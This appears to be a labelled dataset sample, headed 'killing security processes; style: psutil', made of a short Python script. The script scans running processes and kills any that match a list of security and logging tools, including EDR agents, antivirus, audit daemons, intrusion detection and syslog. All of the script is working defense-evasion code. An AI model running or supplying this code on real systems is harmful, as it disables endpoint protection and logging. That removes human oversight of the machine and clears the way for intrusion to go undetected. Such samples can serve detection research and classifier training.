# class: killing security processes; style: psutil
import psutil

NAMES = {"falcon-sensor", "clamd", "auditd", "osqueryd", "wazuh-agentd", "ossec-syscheckd", "fail2ban-server",
         "rsyslogd", "falco", "mdatp"}
for proc in psutil.process_iter(["name"]):
    if proc.info["name"] in NAMES:
        proc.kill()
